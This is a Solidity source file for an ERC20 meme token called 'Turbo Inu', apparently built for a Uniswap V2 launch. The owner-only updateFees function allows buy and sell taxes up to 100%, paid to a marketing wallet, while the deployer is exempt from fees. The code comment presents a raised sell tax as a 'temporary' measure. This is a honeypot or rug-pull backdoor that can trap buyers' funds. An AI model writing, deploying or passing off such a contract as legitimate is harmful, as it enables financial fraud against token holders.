// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {IUniswapV2Factory, IUniswapV2Router02} from "./IUniswapV2.sol";

/// TURBO INU — low tax at launch, "temporarily" raised sell tax to fight jeeters.
contract TurboInu is ERC20, Ownable {
    address public immutable uniswapV2Pair;
    address public marketingWallet;

    uint256 public buyFeeBps = 500;
    uint256 public sellFeeBps = 500;
    mapping(address => bool) public isExcludedFromFees;

    event FeesUpdated(uint256 buyFeeBps, uint256 sellFeeBps);

    constructor(address router, address marketing, uint256 supply) ERC20("Turbo Inu", "TINU") Ownable(msg.sender) {
        IUniswapV2Router02 r = IUniswapV2Router02(router);
        uniswapV2Pair = IUniswapV2Factory(r.factory()).createPair(address(this), r.WETH());
        marketingWallet = marketing;
        isExcludedFromFees[msg.sender] = true;
        isExcludedFromFees[address(this)] = true;
        _mint(msg.sender, supply);
    }

    function updateFees(uint256 newBuyFeeBps, uint256 newSellFeeBps) external onlyOwner {
        require(newBuyFeeBps <= 10000 && newSellFeeBps <= 10000, "fee > 100%");
        buyFeeBps = newBuyFeeBps;
        sellFeeBps = newSellFeeBps;
        emit FeesUpdated(newBuyFeeBps, newSellFeeBps);
    }

    function excludeFromFees(address account, bool excluded) external onlyOwner {
        isExcludedFromFees[account] = excluded;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0) && to != address(0) && !isExcludedFromFees[from] && !isExcludedFromFees[to]) {
            uint256 feeBps = to == uniswapV2Pair ? sellFeeBps : (from == uniswapV2Pair ? buyFeeBps : 0);
            if (feeBps > 0) {
                uint256 fee = (value * feeBps) / 10000;
                super._update(from, marketingWallet, fee);
                value -= fee;
            }
        }
        super._update(from, to, value);
    }
}
